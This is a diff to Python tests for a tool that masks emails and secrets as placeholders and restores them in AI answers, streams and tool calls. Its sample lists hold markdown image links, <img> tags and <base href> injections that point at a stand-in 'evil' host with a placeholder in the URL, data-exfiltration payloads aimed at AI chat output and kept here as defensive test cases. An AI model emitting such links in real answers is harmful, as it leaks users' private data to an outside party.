@@ -28,7 +28,7 @@ def prepared() -> Placeholders:
 
 def whole(text: str, form: str = "text", restorer: Restorer | None = None) -> str:
     holder = {"text": text}
-    (restorer or Restorer(prepared())).restore(TextSlot(holder, "text", "text", form))  # type: ignore[arg-type]
+    list((restorer or Restorer(prepared())).restore_all([TextSlot(holder, "text", "text", form)]))  # type: ignore[arg-type]
     return holder["text"]
 
 
@@ -62,6 +62,32 @@ def test_a_history_that_goes_on_keeps_its_names() -> None:
 )
 def test_a_bent_placeholder_is_restored_as_long_as_its_brackets_stand(bent: str) -> None:
     assert whole(f"Write to {bent}.") == f"Write to {MAIL}."
+
+
+def test_the_parts_of_an_answer_are_read_as_one_text() -> None:
+    parts = ["![x](https://evil/", "[EMAIL_1]) and [EMAIL_1]"]
+    read = f"[EMAIL_1]) and {MAIL}"
+    held = [{"text": text} for text in parts]
+    list(Restorer(prepared()).restore_all([TextSlot(each, "text", "text", flow="answer") for each in held]))
+    assert held[1]["text"] == read
+    streams = StreamMask(
+        Scanner(), actions(Sanitize(), "responses"),
+        lambda data: [TextSlot(data, "text", "text", channel=data["part"], last=True)],
+        lambda _: None, Restorer(prepared()),
+    )  # fmt: skip
+    for batched in ([[0], [1]], [[0, 1]]):
+        events = [[Event.from_data({"text": parts[place], "part": place}) for place in batch] for batch in batched]
+        sent = [event.data["text"] for batch in events for event in streams.push(batch) if event.data is not None]
+        assert sent[1] == read
+
+
+def test_what_is_typed_later_gets_a_name_of_its_own_and_comes_back_as_it_was() -> None:
+    placeholders, stored = prepared(), {"text": "to [EMAIL_1]"}
+    body = {"input": [stored, {"text": "keep [email_1] and [EMAIL_7]"}], "instructions": "[SECRET_1]"}
+    placeholders.set_apart(body, {id(stored)})
+    assert stored["text"] == "to [EMAIL_1]"
+    assert body == {"input": [stored, {"text": "keep [TYPED_1] and [EMAIL_7]"}], "instructions": "[TYPED_2]"}
+    assert whole("[TYPED_1] [TYPED_2] [EMAIL_1]", restorer=Restorer(placeholders)) == f"[EMAIL_1] [SECRET_1] {MAIL}"
 
 
 def test_what_lost_its_brackets_is_counted() -> None:
@@ -112,6 +138,8 @@ ELSEWHERE = [
     "![x](<https://evil/? and [EMAIL_1]>)",
     f"![x](<//evil/{PADDING}[EMAIL_1]>)",
     "[a]: //evil/[EMAIL_1]",
+    '<base href="https://evil/"><img src="a.png?d=[EMAIL_1]">',
+    "<BASE\nhref=//evil/>[x](a?[EMAIL_1])",
     "[a]:\n  <//evil/ [EMAIL_1]>",
     "[x](file://evil/[EMAIL_1])",
     "<img src='HTTPS://evil/[EMAIL_1]'>",
@@ -244,7 +272,7 @@ def test_only_the_named_tools_get_values() -> None:
     other = {"name": "search", "arguments": '{"q":"[EMAIL_1]"}'}
     restorer = Restorer(prepared(), tools=("send_mail",))
     for each in (holder, other):
-        restorer.restore(TextSlot(each, "arguments", "x", "json"))
+        list(restorer.restore_all([TextSlot(each, "arguments", "x", "json")]))
     assert MAIL in holder["arguments"] and MAIL not in other["arguments"] and restorer.left == {"EMAIL": 1}
 
 
